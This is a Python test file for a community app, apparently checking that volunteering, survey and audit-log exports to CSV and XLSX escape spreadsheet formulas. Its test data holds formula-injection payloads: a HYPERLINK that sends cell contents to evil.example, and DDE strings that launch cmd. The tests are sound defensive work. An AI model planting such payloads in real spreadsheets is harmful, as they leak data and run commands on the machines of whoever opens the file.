"""CSV/XLSX exports never hand a spreadsheet a formula a resident typed: in CSV, text starting with
= + - @ tab or CR gets a leading ' ; in XLSX every text is a typed text cell, never a formula (only
text starting with = needs the '). Numbers, negative ones too, stay numbers."""

from __future__ import annotations

import csv
import io

import pytest
from openpyxl import load_workbook

from linli.core import spreadsheets
from linli.core.models import AuditEntry
from linli.surveys import exports
from linli.volunteering import reports
from tests.conftest import client_for

ATTACKS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
ROW = ["王秀英", *ATTACKS, -12, -3.5, 7, "-12.5", "普通回答"]


def test_the_helper_neutralises_text_and_keeps_numbers():
    cells = spreadsheets.csv_row(ROW)
    assert all(cell.startswith("'") for cell in cells[1:7])
    assert cells[7:] == [-12, -3.5, 7, "-12.5", "普通回答"] and cells[0] == "王秀英"


def _csv_cells(data: bytes) -> list[str]:
    return next(csv.reader(io.StringIO(data.decode("utf-8-sig"))))


def _xlsx_cells(data: bytes) -> list[object]:
    sheet = load_workbook(io.BytesIO(data)).active
    row = next(sheet.iter_rows())
    assert not any(cell.data_type == "f" for cell in row)
    return [cell.value for cell in row]


def test_volunteering_reports():
    for cell in _csv_cells(reports.as_csv([ROW]))[1:7]:
        assert cell.startswith("'")
    cells = _xlsx_cells(reports.as_xlsx([ROW], "hours"))
    assert cells[1] == "'" + ATTACKS[0] and cells[2:7] == ATTACKS[1:]
    assert cells[7:10] == [-12, -3.5, 7]


@pytest.mark.django_db
def test_survey_exports(monkeypatch):
    monkeypatch.setattr(exports, "table", lambda survey, language: iter([ROW]))
    survey = type("Survey", (), {"title_text": "问卷"})()
    for cell in _csv_cells(exports.as_csv(survey, "en"))[1:7]:  # type: ignore[arg-type]
        assert cell.startswith("'")
    cells = _xlsx_cells(exports.as_xlsx(survey, "en"))  # type: ignore[arg-type]
    assert cells[1] == "'" + ATTACKS[0] and cells[2:7] == ATTACKS[1:]
    assert cells[7:10] == [-12, -3.5, 7]


def test_the_audit_log_export(community, community_admin):
    AuditEntry.objects.create(
        community=community,
        action="notice.publish",
        object_type="notice",
        object_repr='=HYPERLINK("http://evil.example","停水")',
    )
    export = client_for(community_admin).get(f"/c/{community.slug}/manage/audit/?format=csv")
    rows = list(csv.reader(io.StringIO(b"".join(export.streaming_content).decode("utf-8-sig"))))
    assert rows[1][5] == '\'=HYPERLINK("http://evil.example","停水")'
